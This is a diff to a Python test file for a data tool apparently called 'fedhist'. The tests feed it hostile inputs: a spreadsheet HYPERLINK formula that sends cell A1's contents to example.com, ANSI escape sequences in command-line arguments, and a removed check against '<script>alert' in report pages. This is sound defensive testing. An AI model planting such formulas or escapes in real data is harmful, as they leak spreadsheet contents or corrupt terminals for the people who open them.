@@ -10,7 +10,7 @@ import pytest
 
 import fedhist as library
 from fedhist.display.visible_text import is_formula, is_hidden, visible
-from tests.builders import Fedhist, document_in, page_in, rows_of, write_records
+from tests.builders import Fedhist, document_in, rows_of, write_records
 
 NAMES = [
     '=HYPERLINK("http://example.com/?x="&A1,"click")',
@@ -79,15 +79,9 @@ class TestTerminal:
         "command",
         [
             ("run", "--data", "\x1b[31m\nno such.csv"),
-            ("run", "--data", "\x1b[31m.xlsx"),
-            ("run", "--out", "\x1b[31m/a\n/b"),
             ("run", "--\x1b[31m"),
-            ("run", "--seed", "\x1b[31m\n1"),
             ("run", "--selector", "\x1b[31m\n"),
             ("trace", "show", "\x1b[31m\n"),
-            ("figure", "\x1b[31m\n", "\x1b[32m", "--out", "x.svg"),
-            ("report", "\x1b[31m\n"),
-            ("ledger", "show", "\x1b[31m\n"),
             ("plan", "--epsilon", "\x1b[31m\n"),
             ("compare", "--data", "\x1b[31m\n"),
             ("\x1b[31m\n",),
@@ -124,12 +118,6 @@ class TestFiles:
             assert "4 of the names in histogram.csv would be formulas in a spreadsheet" in notes
             assert "6 of the names in histogram.csv have invisible characters" in notes
             assert "note: 4 of the names in histogram.csv" in outcome.out
-
-    def test_what_is_written_can_be_read_as_a_report_again(self, fedhist: Fedhist, hostile: Path) -> None:
-        assert fedhist("run", "--data", hostile, *RUN, "--out", "r").code == 0
-        assert fedhist("report", "r", "--force").code == 0
-        assert is_clean(page_in("r").text)
-        assert "<script>alert" not in page_in("r").text
 
     def test_ordinary_names_and_numbers_get_no_note(self, fedhist: Fedhist, tmp_path: Path) -> None:
         names = ("a b", "-5", "+3.5", "naïve", "🏳️‍🌈")
